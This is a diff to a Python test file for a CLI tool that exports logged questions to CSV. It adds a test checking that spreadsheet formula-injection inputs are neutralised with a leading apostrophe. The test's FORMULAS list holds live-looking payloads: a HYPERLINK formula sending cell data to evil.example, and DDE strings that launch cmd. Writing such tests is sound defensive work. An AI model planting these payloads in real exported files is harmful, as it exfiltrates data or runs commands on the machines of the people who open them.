@@ -7,6 +7,7 @@ against a real database file, and checks the exact text and exit code.
 from __future__ import annotations
 
 import asyncio
+import csv
 import json
 import os
 import subprocess
@@ -144,6 +145,32 @@ def test_export_csv_of_consultations_goes_to_the_screen(db: Path):
     assert lines[0].startswith("id,reference,created,")
     assert "chat_id" not in lines[0] and "user_key" not in lines[0]
     assert lines[1].startswith("1,K-1,")
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example/?x="&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1")
+
+
+async def _log_formulas(path: Path) -> None:
+    async with await Storage.open(path) as storage:
+        for i, text in enumerate(FORMULAS):
+            await storage.log_question(source_key=f"cli:f{i}", user_key="p", municipality="flen", role=None,
+                                       text=text, topics=[], declined=True, kind="declined", urgent=False,
+                                       personnummer=False)
+
+
+def test_export_csv_neutralises_formulas(tmp_path: Path):
+    """Question texts that a spreadsheet would run come out with a leading ' (OWASP), numbers stay numbers."""
+    db = tmp_path / "lotsen.sqlite3"
+    asyncio.run(_log_formulas(db))
+    target = tmp_path / "fragor.csv"
+    result = lotsen(db, "export", "--format", "csv", "--output", str(target))
+    assert result.returncode == 0, result.stderr
+    with target.open(encoding="utf-8-sig", newline="") as f:  # newline="": keep the CR inside a cell
+        rows = list(csv.DictReader(f))
+    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS]
+    assert [row["id"] for row in rows] == [str(i) for i in range(1, len(FORMULAS) + 1)]
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
 
 
 def test_purge_clears_old_texts_and_reports_it(db: Path):
